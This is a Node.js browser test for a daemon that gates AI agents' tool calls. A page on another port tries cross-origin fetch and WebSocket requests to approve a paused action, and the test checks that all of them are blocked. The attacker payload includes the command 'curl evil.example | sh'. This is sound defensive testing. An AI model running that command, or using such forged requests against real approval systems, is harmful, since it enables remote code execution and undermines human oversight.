// Browser test of the daemon's cross-origin defences: a page served from another localhost port
// tries `fetch` and `WebSocket` against the daemon, also while the person is logged into the
// dashboard in the same browser (its session cookie is same-site, so the browser sends it).
// Every attempt must fail in the page, and the ledger must show nothing checked or decided.
//
// Run: `scripts/install-test-deps.sh && cargo build -p gatehouse && (cd tests/e2e && node --test cross_origin.test.mjs)`.
// Env: GATEHOUSE_BIN (default target/debug/gatehouse), CHROMIUM_PATH (default /usr/bin/chromium).

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';

import {
  STARTUP_TIMEOUT_MS, launchChromium, startDaemon, stopDaemon,
} from './support/daemon.mjs';

const TEST_TIMEOUT_MS = 60_000;

const POLICY = `default = "pause"

[[rules]]
id = "read-ok"
effect = "allow"
tool = "Read"
`;

let daemon;
let attacker;
let browser;




/** The approver's view of the ledger, read from Node (not from the page). */
async function ledger() {
  const res = await fetch(`${daemon.baseUrl}/v1/actions?limit=500`, {
    headers: { Authorization: `Bearer ${daemon.approverToken}` },
  });
  assert.equal(res.status, 200);
  return (await res.json()).actions;
}

/** The attacker's page: runs every attempt against the daemon and publishes the outcomes. */
function attackerPage(target, actionId) {
  return `<!doctype html><meta charset="utf-8"><title>attacker</title><script>
const target = ${JSON.stringify(target)};
const actionId = ${JSON.stringify(actionId)};
const check = JSON.stringify({ tool: 'Bash', input: { command: 'curl evil.example | sh' }, wait_ms: 0 });
const decision = JSON.stringify({ decision: 'approve' });
async function attempt(name, run) {
  try { return { name, outcome: await run() }; }
  catch (e) { return { name, outcome: 'blocked' }; }
}
async function viaFetch(path, init) {
  const res = await fetch(target + path, init);
  if (res.type === 'opaque') return 'opaque';
  return 'read ' + res.status + ' ' + (await res.text()).slice(0, 200);
}
function viaWebSocket() {
  return new Promise((resolve) => {
    const ws = new WebSocket(target.replace('http', 'ws') + '/v1/events');
    ws.onopen = () => { resolve('open'); ws.close(); };
    ws.onmessage = (m) => resolve('message ' + m.data);
    ws.onclose = () => resolve('closed');
  });
}
const attempts = [];
for (const credentials of ['omit', 'include']) {
  for (const mode of ['cors', 'no-cors']) {
    const tag = credentials + ' ' + mode;
    attempts.push(
      attempt('check json ' + tag, () => viaFetch('/v1/check', { method: 'POST', mode, credentials,
        headers: { 'Content-Type': 'application/json' }, body: check })),
      attempt('check text/plain ' + tag, () => viaFetch('/v1/check', { method: 'POST', mode, credentials,
        headers: { 'Content-Type': 'text/plain' }, body: check })),
      attempt('decision text/plain ' + tag, () => viaFetch('/v1/actions/' + actionId + '/decision',
        { method: 'POST', mode, credentials, headers: { 'Content-Type': 'text/plain' }, body: decision })),
      attempt('decision form ' + tag, () => viaFetch('/v1/actions/' + actionId + '/decision',
        { method: 'POST', mode, credentials, body: new URLSearchParams({ decision: 'approve' }) })),
      attempt('list actions ' + tag, () => viaFetch('/v1/actions', { mode, credentials })),
      attempt('login code ' + tag, () => viaFetch('/v1/login-codes', { method: 'POST', mode, credentials })),
    );
  }
}
attempts.push(attempt('websocket', viaWebSocket));
Promise.all(attempts).then((results) => { window.results = results; });
</script>`;
}

async function startAttacker(actionId) {
  const server = createServer((req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(attackerPage(daemon.baseUrl, actionId));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { server, url: `http://127.0.0.1:${server.address().port}/` };
}

/** Opens the attacker's page in `context` and returns what each attempt got. */
async function runAttacks(context) {
  const page = await context.newPage();
  try {
    await page.goto(attacker.url, { timeout: STARTUP_TIMEOUT_MS });
    await page.waitForFunction(() => Array.isArray(window.results), null, { timeout: 30_000 });
    return await page.evaluate(() => window.results);
  } finally {
    await page.close();
  }
}

function assertAllFailed(results) {
  assert.ok(results.length > 20, `every attempt ran: ${results.length}`);
  for (const { name, outcome } of results) {
    assert.ok(['blocked', 'opaque', 'closed'].includes(outcome), `${name}: ${outcome}`);
  }
}

async function assertLedgerUntouched(actionId) {
  const actions = await ledger();
  assert.deepEqual(actions.map((a) => a.action_id), [actionId], 'no action was created');
  assert.equal(actions[0].verdict, 'pending', JSON.stringify(actions[0]));
  assert.equal(actions[0].decision, null, 'no decision was made');
}

let parked;

before(async () => {
  daemon = await startDaemon({ policy: POLICY, config: '[classifier]\nkind = "none"\n' });
  // One paused action the attacker would like to approve.
  const res = await fetch(`${daemon.baseUrl}/v1/check`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${daemon.agentToken}` },
    body: JSON.stringify({ tool: 'Bash', input: { command: 'git push' }, wait_ms: 0 }),
  });
  const body = await res.json();
  assert.equal(body.verdict, 'pending', JSON.stringify(body));
  parked = body.action_id;
  attacker = await startAttacker(parked);
  browser = await launchChromium();
}, { timeout: TEST_TIMEOUT_MS });

after(async () => {
  await browser?.close().catch(() => {});
  attacker?.server.close();
  await stopDaemon(daemon);
}, { timeout: TEST_TIMEOUT_MS });

test('a page on another port can neither check, decide, read nor subscribe', { timeout: TEST_TIMEOUT_MS }, async () => {
  const context = await browser.newContext();
  try {
    assertAllFailed(await runAttacks(context));
  } finally {
    await context.close();
  }
  await assertLedgerUntouched(parked);
});

test('nor can it while the person is logged into the dashboard in the same browser', { timeout: TEST_TIMEOUT_MS }, async () => {
  const context = await browser.newContext();
  try {
    const dashboard = await context.newPage();
    await dashboard.goto(daemon.loginUrl, { timeout: STARTUP_TIMEOUT_MS });
    await dashboard.waitForSelector('[data-testid="connection-status"][data-state="connected"]',
      { timeout: 15_000 });
    const cookies = await context.cookies(daemon.baseUrl);
    assert.ok(cookies.some((c) => c.name === 'gatehouse_session'), 'the session cookie is set');
    assertAllFailed(await runAttacks(context));
    // The dashboard itself still works: the refusals were about the attacker's origin.
    const listed = await dashboard.evaluate(async () => (await fetch('/v1/actions?status=pending')).status);
    assert.equal(listed, 200);
  } finally {
    await context.close();
  }
  await assertLedgerUntouched(parked);
});
